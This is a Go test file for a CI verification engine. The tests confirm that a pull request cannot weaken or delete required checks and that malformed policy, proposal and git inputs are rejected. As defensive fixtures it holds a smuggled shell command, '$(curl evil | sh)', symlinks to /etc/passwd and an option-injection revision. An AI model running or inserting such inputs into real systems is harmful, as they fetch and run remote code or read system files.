package engine_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/runmill/verify/internal/engine"
	"github.com/runmill/verify/internal/gittest"
	"github.com/runmill/verify/internal/golden"
	"github.com/runmill/verify/pkg/discovery"
	"github.com/runmill/verify/pkg/policy"
	"github.com/runmill/verify/pkg/rmerr"
)

const basePolicy = `checks:
  - id: unit
    run: go test -json ./... > reports/unit.json
    report: {path: reports/unit.json, format: go-json}
  - id: lint
    run: make lint
  - id: migration
    run: ./scripts/check-migrations
    paths: ["migrations/**"]
`

// change builds a repository whose main branch has files, and a "pr" branch
// that applies edit; it returns the repository and the two commits.
func change(t *testing.T, files map[string]string, edit func(r *gittest.Repo)) (*gittest.Repo, string, string) {
	t.Helper()
	r := gittest.New(t)
	for p, c := range files {
		r.Write(p, c)
	}
	r.Write("README.md", "x\n")
	base := r.Commit("base")
	r.Checkout("pr", true)
	edit(r)
	return r, base, r.Commit("change")
}

func discover(t *testing.T, o engine.DiscoverOptions) *discovery.Manifest {
	t.Helper()
	m, err := engine.Discover(context.Background(), o)
	if err != nil {
		t.Fatalf("Discover: %v", err)
	}
	return m
}

func ids(m *discovery.Manifest) []string {
	var out []string
	for _, c := range m.Checks {
		out = append(out, c.ID)
	}
	return out
}

func TestPolicyIsReadFromBase(t *testing.T) {
	for name, edit := range map[string]string{
		"deletes a check":   "checks:\n  - id: lint\n    run: make lint\n",
		"weakens a command": strings.Replace(basePolicy, "go test -json ./... > reports/unit.json", "true", 1),
		"makes it advisory": strings.Replace(basePolicy, "    run: make lint\n", "    run: make lint\n    required: false\n", 1),
		"empties the file":  "checks: []\n",
		"breaks the file":   "checks: [\n",
		"removes the file":  "",
	} {
		t.Run(name, func(t *testing.T) {
			r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(r *gittest.Repo) {
				if edit == "" {
					r.Remove(".runmill/checks.yaml")
				} else {
					r.Write(".runmill/checks.yaml", edit)
				}
			})
			m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})
			if m.ReadFrom != discovery.ReadFromBase || m.Policies.Repository.Commit != base {
				t.Fatalf("read_from %s at %v, want base-ref at %s", m.ReadFrom, m.Policies.Repository, base)
			}
			if got := ids(m); !reflect.DeepEqual(got, []string{"lint", "unit"}) {
				t.Fatalf("manifest %v, want [lint unit]", got)
			}
			unit, _ := m.Check("unit")
			if unit.Command != "go test -json ./... > reports/unit.json" || !unit.Required {
				t.Fatalf("unit weakened: %+v", unit)
			}
			lint, _ := m.Check("lint")
			if !lint.Required {
				t.Fatal("lint made advisory by the change")
			}
		})
	}
}

func TestNewManifestReadFromWorkingTreeOnlyAdds(t *testing.T) {
	r, base, cand := change(t, nil, func(r *gittest.Repo) {
		r.Write(".runmill/checks.yaml", "checks:\n  - id: unit\n    run: go test ./...\n")
	})
	const op = "verification:\n  commands:\n    - {id: e2e, run: make e2e}\n"
	pol := writeFile(t, "policy.yaml", op)
	m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand, PolicyFile: pol})
	if m.ReadFrom != discovery.ReadFromWorkingTree || m.Policies.Repository.Commit != cand {
		t.Fatalf("read_from %s, want working-tree at the candidate", m.ReadFrom)
	}
	// Without the new file the operator's check is required; with it, the
	// same check is still there and one more was added.
	without := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: base, PolicyFile: pol})
	if got := ids(without); !reflect.DeepEqual(got, []string{"e2e"}) {
		t.Fatalf("baseline manifest %v", got)
	}
	if got := ids(m); !reflect.DeepEqual(got, []string{"e2e", "unit"}) {
		t.Fatalf("manifest %v, want [e2e unit]", got)
	}
	if without.ReadFrom != discovery.ReadFromNone {
		t.Fatalf("read_from %s, want none", without.ReadFrom)
	}
}

func TestOperatorOverridesRepositoryCommand(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(*gittest.Repo) {})
	pol := writeFile(t, "policy.yaml", `verification:
  commands:
    - id: unit
      run: go test -race -json ./... > reports/unit.json
      report: {path: reports/unit.json, format: go-json}
      paths: ["never/**"]
`)
	m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand, PolicyFile: pol})
	unit, ok := m.Check("unit")
	if !ok || unit.Command != "go test -race -json ./... > reports/unit.json" || unit.DefinedBy != discovery.DefinedByOperator {
		t.Fatalf("operator did not win: %+v", unit)
	}
	// The operator's path gate does not make the repository's unconditional
	// requirement disappear: requirements union, definitions do not.
	if !unit.Required || !unit.HasSource(discovery.SourceRepository) {
		t.Fatalf("requirement lost: %+v", unit)
	}
	want := []discovery.Conflict{{ID: "unit", Fields: []string{"run", "paths"}, Winner: discovery.DefinedByOperator}}
	if !reflect.DeepEqual(m.Conflicts, want) {
		t.Fatalf("conflicts %+v, want %+v", m.Conflicts, want)
	}
	if m.Policies.Operator == nil || !strings.HasPrefix(m.Policies.Operator.Digest, "sha256:") {
		t.Fatalf("operator policy digest not recorded: %+v", m.Policies)
	}
}

func TestAgentProposals(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(*gittest.Repo) {})
	plain := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})

	t.Run("unknown id changes nothing", func(t *testing.T) {
		props := writeFile(t, "proposals.txt", "# from the agent\nexfiltrate\n\nunit\n")
		m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand, ProposalsFile: props})
		if !reflect.DeepEqual(ids(m), ids(plain)) {
			t.Fatalf("manifest changed: %v vs %v", ids(m), ids(plain))
		}
		if len(m.IgnoredProposals) != 1 || m.IgnoredProposals[0].ID != "exfiltrate" {
			t.Fatalf("ignored proposals %+v", m.IgnoredProposals)
		}
		for _, c := range m.Checks {
			if strings.Contains(c.Command, "exfiltrate") {
				t.Fatalf("unknown id became a command: %+v", c)
			}
		}
		unit, _ := m.Check("unit")
		if !unit.HasSource(discovery.SourceAgent) || !unit.HasSource(discovery.SourceRepository) {
			t.Fatalf("known proposal not recorded as a source: %+v", unit)
		}
	})
	t.Run("known id adds a path-gated check", func(t *testing.T) {
		m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand, ProposalsFile: "-", Stdin: strings.NewReader("migration\n")})
		mig, ok := m.Check("migration")
		if !ok || !mig.Required || !reflect.DeepEqual(mig.Sources, []discovery.Source{discovery.SourceAgent}) {
			t.Fatalf("migration not added by proposal: %+v", mig)
		}
	})
}

func TestChangedPathAddsMigrationCheck(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy, "migrations/000_init.sql": "create table t();\n"},
		func(r *gittest.Repo) { r.Write("migrations/001_add.sql", "alter table t add c int;\n") })
	m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})
	mig, ok := m.Check("migration")
	if !ok || !mig.Required || !mig.HasSource(discovery.SourceChangedPath) {
		t.Fatalf("migration check not added: %+v", m.Checks)
	}
	if !strings.Contains(mig.Reasons[0], "migrations/001_add.sql") {
		t.Fatalf("reason does not name the path: %v", mig.Reasons)
	}

	// A change outside migrations/ leaves it out, and says why.
	r2, base2, cand2 := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(r *gittest.Repo) { r.Write("src/a.go", "package a\n") })
	m2 := discover(t, engine.DiscoverOptions{RepoDir: r2.Dir, Base: base2, Candidate: cand2})
	if _, ok := m2.Check("migration"); ok {
		t.Fatal("migration required without a migration change")
	}
	if len(m2.NotTriggered) != 1 || m2.NotTriggered[0].ID != "migration" {
		t.Fatalf("not_triggered %+v", m2.NotTriggered)
	}
}

func TestRenameCountsUnderBothNames(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy, "migrations/001.sql": "create table t();\n"},
		func(r *gittest.Repo) {
			r.Write("archive/001.sql", "create table t();\n")
			r.Remove("migrations/001.sql")
		})
	m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})
	if _, ok := m.Check("migration"); !ok {
		t.Fatal("moving a file out of migrations/ did not require the migration check")
	}
	if m.ChangedPaths != 2 {
		t.Fatalf("changed paths %d, want 2 (old and new name)", m.ChangedPaths)
	}
}

func TestOperatorPathRuleAndGitHubContexts(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(r *gittest.Repo) { r.Write("infra/main.tf", "x\n") })
	pol := writeFile(t, "policy.yaml", "verification:\n  path_rules:\n    - paths: [\"infra/**\"]\n      checks: [lint, plan]\n")
	m := discover(t, engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand, PolicyFile: pol,
		GitHubContexts: []string{"ci / build"}, GitHubConsulted: true})
	plan, ok := m.Check("plan")
	if !ok || plan.Runnable() || !plan.Required {
		t.Fatalf("undefined rule id must be required and not runnable (RM-VERIFY-001 later): %+v", plan)
	}
	lint, _ := m.Check("lint")
	if !lint.HasSource(discovery.SourceChangedPath) || !lint.HasSource(discovery.SourceRepository) {
		t.Fatalf("lint sources %v", lint.Sources)
	}
	gh, ok := m.Check("ci / build")
	if !ok || gh.Command != "" || !reflect.DeepEqual(gh.Sources, []discovery.Source{discovery.SourceGitHub}) {
		t.Fatalf("github context: %+v", gh)
	}
	if !m.GitHub.Consulted {
		t.Fatal("github not recorded as consulted")
	}
}

func TestBrokenManifest(t *testing.T) {
	big := "checks: []\n" + strings.Repeat("#", 2<<20) + "\n"
	for name, tc := range map[string]struct {
		setup func(r *gittest.Repo)
		msg   string
	}{
		"does not parse":       {func(r *gittest.Repo) { r.Write(".runmill/checks.yaml", "checks: [\n") }, "did not find expected"},
		"unknown key":          {func(r *gittest.Repo) { r.Write(".runmill/checks.yaml", "checks: []\nskip_all: true\n") }, "skip_all"},
		"empty":                {func(r *gittest.Repo) { r.Write(".runmill/checks.yaml", "") }, "empty"},
		"too large":            {func(r *gittest.Repo) { r.Write(".runmill/checks.yaml", big) }, "too large"},
		"a directory":          {func(r *gittest.Repo) { r.Write(".runmill/checks.yaml/x", "y") }, "directory"},
		"a symlink out":        {func(r *gittest.Repo) { r.Symlink("/etc/passwd", ".runmill/checks.yaml") }, "symlink"},
		"dir is a symlink out": {func(r *gittest.Repo) { r.Symlink("/etc", ".runmill") }, ".runmill is a symlink"},
	} {
		t.Run(name, func(t *testing.T) {
			r := gittest.New(t)
			tc.setup(r)
			base := r.Commit("base")
			r.Checkout("pr", true)
			r.Write("a.txt", "a")
			cand := r.Commit("pr")
			_, err := engine.Discover(context.Background(), engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})
			if rmerr.CodeOf(err) != rmerr.VerifyManifest || !strings.Contains(err.Error(), tc.msg) {
				t.Fatalf("got %v, want RM-VERIFY-004 mentioning %q", err, tc.msg)
			}
		})
	}
	t.Run("broken new manifest at candidate", func(t *testing.T) {
		r, base, cand := change(t, nil, func(r *gittest.Repo) { r.Write(".runmill/checks.yaml", "checks: {\n") })
		_, err := engine.Discover(context.Background(), engine.DiscoverOptions{RepoDir: r.Dir, Base: base, Candidate: cand})
		if rmerr.CodeOf(err) != rmerr.VerifyManifest {
			t.Fatalf("got %v, want RM-VERIFY-004", err)
		}
	})
}

func TestBadOperatorInputs(t *testing.T) {
	r, base, cand := change(t, map[string]string{".runmill/checks.yaml": basePolicy}, func(*gittest.Repo) {})
	dir := t.TempDir()
	sparse := filepath.Join(dir, "huge.yaml")
	f, err := os.Create(sparse)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(100 << 20); err != nil {
		t.Fatal(err)
	}
	f.Close()
	var many strings.Builder
	for i := 0; i < 100000; i++ {
		many.WriteString("c")
		many.WriteString(strings.Repeat("x", i%7))
		many.WriteString("\n")
	}
	inRepo := filepath.Join(r.Dir, "policy.yaml")
	if err := os.WriteFile(inRepo, []byte("autonomy: pr-only\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		o    engine.DiscoverOptions
		code rmerr.Code
		msg  string
	}{
		"policy is a directory":   {engine.DiscoverOptions{PolicyFile: dir}, rmerr.PolicyInvalid, "directory"},
		"policy is 100 MB":        {engine.DiscoverOptions{PolicyFile: sparse}, rmerr.PolicyInvalid, "larger than"},
		"policy missing":          {engine.DiscoverOptions{PolicyFile: filepath.Join(dir, "nope.yaml")}, rmerr.PolicyInvalid, "no such file"},
		"policy inside the repo":  {engine.DiscoverOptions{PolicyFile: inRepo}, rmerr.PolicyInvalid, "inside the repository"},
		"100 000 proposals":       {engine.DiscoverOptions{ProposalsFile: "-", Stdin: strings.NewReader(many.String())}, rmerr.PolicyProposals, "larger than"},
		"1 001 proposals":         {engine.DiscoverOptions{ProposalsFile: "-", Stdin: strings.NewReader(strings.Repeat("unit\n", 1001))}, rmerr.PolicyProposals, "more than 1000"},
		"shell in a proposal":     {engine.DiscoverOptions{ProposalsFile: "-", Stdin: strings.NewReader("unit\n$(curl evil | sh)\n")}, rmerr.PolicyProposals, ":2: invalid check id"},
		"missing base":            {engine.DiscoverOptions{Base: "no-such-branch"}, rmerr.GitRevision, "not a commit"},
		"option-like revision":    {engine.DiscoverOptions{Candidate: "--output=/tmp/x"}, rmerr.GitRevision, "invalid revision"},
		"not a git repository":    {engine.DiscoverOptions{RepoDir: t.TempDir()}, rmerr.GitRepository, "not a git repository"},
		"repository is not a dir": {engine.DiscoverOptions{RepoDir: sparse}, rmerr.GitRepository, "not a directory"},
	} {
		t.Run(name, func(t *testing.T) {
			o := tc.o
			if o.RepoDir == "" {
				o.RepoDir = r.Dir
			}
			if o.Base == "" {
				o.Base = base
			}
			if o.Candidate == "" {
				o.Candidate = cand
			}
			_, err := engine.Discover(context.Background(), o)
			if rmerr.CodeOf(err) != tc.code || !strings.Contains(err.Error(), tc.msg) {
				t.Fatalf("got %v, want %s mentioning %q", err, tc.code, tc.msg)
			}
		})
	}
}

// TestManifestJSON pins the manifest's JSON shape with a golden file.
func TestManifestJSON(t *testing.T) {
	no := false
	m, err := discovery.Resolve(discovery.Input{
		Base: "b", Candidate: "c",
		Repository: &discovery.RepositoryPolicy{
			Doc: policy.Repository{Checks: []policy.CheckSpec{
				{ID: "unit", Run: "npm test", Report: &policy.ReportSpec{Path: "reports/unit.xml", Format: "junit"},
					DeclaredSkips: []policy.DeclaredSkip{{TestID: "net::live", Cause: "needs staging; ENG-88"}}, Timeout: policy.Duration(10 * time.Minute)},
				{ID: "migration", Run: "./check-migrations", Paths: []string{"migrations/**"}},
				{ID: "docs", Run: "make docs", Paths: []string{"docs/**"}},
				{ID: "schema", Run: "make schema", Paths: []string{"schema/*.sql"}},
				{ID: "lint", Run: "make lint", Required: &no},
			}},
			Ref: discovery.PolicyRef{Path: ".runmill/checks.yaml", Commit: "b", Digest: "sha256:00"}, ReadFrom: discovery.ReadFromBase},
		Operator: &discovery.OperatorPolicy{
			Doc: policy.Operator{Autonomy: policy.GuardedMerge, Verification: policy.Verification{
				Commands: []policy.CheckSpec{{ID: "unit", Run: "npm test -- --ci", Report: &policy.ReportSpec{Path: "reports/unit.xml", Format: "junit"}}}}},
			Ref: discovery.PolicyRef{Path: "/etc/runmill/policy.yaml", Digest: "sha256:11"}},
		ChangedPaths: []string{"migrations/1.sql", "db/1.sql"},
		Links:        []discovery.Links{{Commit: "c", Targets: map[string]string{"schema": "db"}, Dirs: map[string]bool{"db": true}}},
		CheckoutRoot: "/runmill/checkout",
		GitHub:       discovery.GitHub{Consulted: true, Contexts: []string{"ci"}},
		Proposals:    []string{"nope", "docs", "docs"},
	})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := json.MarshalIndent(m, "", "  ")
	golden.Bytes(t, filepath.Join("testdata", "manifest.golden.json"), append(got, '\n'))
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}
